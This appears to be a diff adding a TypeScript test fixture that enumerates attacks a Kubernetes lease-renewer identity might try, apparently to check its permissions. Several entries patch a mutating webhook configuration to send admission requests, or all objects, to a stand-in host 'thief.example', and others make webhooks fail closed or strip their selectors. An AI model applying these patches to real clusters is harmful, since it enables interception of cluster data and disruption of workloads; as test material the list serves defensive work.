@@ -1,0 +1,73 @@
+import { AUTHORITY, CONFIGURATION } from '../authority.ts';
+import {
+  applyWebhook,
+  type Attack,
+  CHECKPOINT,
+  FINALIZERS,
+  jsonPatch,
+  LEASE,
+  merge,
+  OWNERS,
+} from './attack.ts';
+
+/** With the renewer's further rights: its lease, its own Secrets, its webhook configuration. */
+export const RENEWER_ATTACKS: readonly Attack[] = [
+  ['adds a finalizer to the lease', merge(LEASE, { metadata: { finalizers: FINALIZERS } })],
+  ['adds an owner to the lease', merge(LEASE, { metadata: { ownerReferences: OWNERS } })],
+  ['adds a finalizer to the authority', merge(AUTHORITY, { metadata: { finalizers: FINALIZERS } })],
+  ['makes the authority immutable', merge(AUTHORITY, { immutable: true })],
+  ['makes the checkpoint immutable', merge(CHECKPOINT, { immutable: true })],
+  [
+    'has the webhook’s requests sent to a server of its own',
+    jsonPatch(CONFIGURATION, {
+      op: 'replace',
+      path: '/webhooks/0/clientConfig',
+      value: { url: 'https://thief.example/mutate' },
+    }),
+  ],
+  [
+    'has them sent to a Service of its own',
+    applyWebhook({ clientConfig: { service: { name: 'thief', namespace: 'thief' } } }),
+  ],
+  [
+    'has all objects sent',
+    applyWebhook({
+      rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
+    }),
+  ],
+  ['has no pod created without it', applyWebhook({ failurePolicy: 'Fail' })],
+  ['has it asked for ever so long', applyWebhook({ timeoutSeconds: 30 })],
+  [
+    'takes the namespace selector away',
+    jsonPatch(CONFIGURATION, { op: 'replace', path: '/webhooks/0/namespaceSelector', value: {} }),
+  ],
+  [
+    'takes the conditions away',
+    jsonPatch(CONFIGURATION, { op: 'remove', path: '/webhooks/0/matchConditions' }),
+  ],
+  [
+    'puts a second webhook behind ours',
+    jsonPatch(CONFIGURATION, {
+      op: 'add',
+      path: '/webhooks/-',
+      value: {
+        name: 'second.thief.example',
+        admissionReviewVersions: ['v1'],
+        sideEffects: 'None',
+        clientConfig: { url: 'https://thief.example' },
+      },
+    }),
+  ],
+  ['takes our webhook away', merge(CONFIGURATION, { webhooks: null })],
+  ...Object.entries({
+    labels: { thief: 'x' },
+    annotations: { 'cert-manager.io/inject-ca-from': 'thief/thief' },
+    finalizers: FINALIZERS,
+    ownerReferences: OWNERS,
+  }).map(
+    ([field, value]): Attack => [
+      `changes the ${field} of the webhook configuration`,
+      merge(CONFIGURATION, { metadata: { [field]: value } }),
+    ],
+  ),
+];
